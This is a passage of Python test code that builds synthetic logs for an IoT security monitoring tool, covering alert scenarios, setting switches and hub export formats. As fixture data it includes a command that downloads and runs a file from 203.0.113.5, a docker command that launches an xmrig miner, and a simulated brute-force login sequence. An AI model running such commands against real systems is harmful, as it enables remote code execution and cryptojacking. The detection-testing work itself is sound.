            log.operation(f"d{host}", 60 + day * DAY, ipAddress=f"198.51.100.{host}")
    write("R15-negative_IoT_RecommendedIpRulesByBaseLine", log)


def recommendations(write):
    for part in (device_posture, agent_state, identities, edge, hubs):
        part(write)


def scenarios(write):
    """Several findings at once: the whole of the catalogue is compared, not one type."""
    log = Log("S-absorption")
    log.send("container", "ProcessCreate", process("docker run -d miner/xmrig:latest"))  # A12 over A13
    log.send("loader", "ProcessCreate", process("wget -O /tmp/x http://203.0.113.5/x && sh /tmp/x"))  # A32 over A24
    log.send("loader", "ProcessCreate", process("/tmp/x", executable="/tmp/x", pid=77), 30)
    # A36 is out before the success comes, in time for A06, which absorbs it.
    for i in range(12):
        log.send("login", "Login", login("Fail", "203.0.113.5", pid=600 + i), i * 3)
    log.operation("noise", 700)
    log.send("login", "Login", login("Success", "203.0.113.5", pid=900), 600, delay=200)
    # An attempt after that, within the hour: an alert of its own.
    for i in range(12):
        log.send("login", "Login", login("Fail", "203.0.113.5", pid=1000 + i), 1000 + i * 3)
    log.operation("noise", 1700)
    write("S-absorption", log)
    log = Log("S-switches").hub(0, **FIXED | {"fieldwatch": {"securityEnabled": True, "twinData": False}})
    log.operation("d", 1, result="401003", authFailureReason="SasExpired").identity("d", 2, keys=["k1", "k2"]).identity("e", 3, keys=["k1", "k4"])
    log.twin("d", 4, "desired", deployment(modules={"app": {"HostConfig": {"Privileged": True}}}), "$edgeAgent")
    log.snapshot("d", "ListeningPorts", [{"Protocol": "tcp", "LocalPort": "8888"}], 5)
    log.hub(60, **FIXED | {"fieldwatch": {"twinData": True}}).operation("d", 61, result="401003", authFailureReason="SasExpired")
    log.twin("d", 62, "desired", deployment(modules={"app": {"HostConfig": {"Privileged": True}}}), "$edgeAgent")
    log.hub(90, **FIXED | {"fieldwatch": {"twinData": False}})
    write("S-switches", log, settings={"recommendationsConfiguration": [{"recommendationType": "IoT_OpenPorts", "status": "Disabled"}]})
    log = Log("S-exports")  # the hub's own forms of an export, keys in any shape
    log.record("identity", 0, {"identities": [
        {"deviceId": "one", "status": "enabled", "authentication": {"symmetricKey": {"primaryKey": "a2V5", "secondaryKey": None}, "x509Thumbprint": {}, "type": "sas"},
         "tags": {"SecurityGroup": "g"}, "properties": {"desired": {}, "reported": {}},
         "modules": [{"moduleId": "$edgeAgent", "properties": {"desired": deployment(modules={"app": {"HostConfig": {"Privileged": True}}})}}]},
        {"deviceId": "two", "status": "disabled", "authentication": {"symmetricKey": {"primaryKey": "b2s=", "secondaryKey": "a2V5"}}}]})
    log.record("hub-configuration", 1, {"name": "plant", "sku": {"name": "S1"}, "properties": {"ipFilterRules": [], "minTlsVersion": "1.2"},
                                        "diagnosticSettings": {"value": [{"name": "d", "properties": {"workspaceId": "w", "logs": [{"category": "Connections", "enabled": True}]}}]}})
    write("S-exports", log)
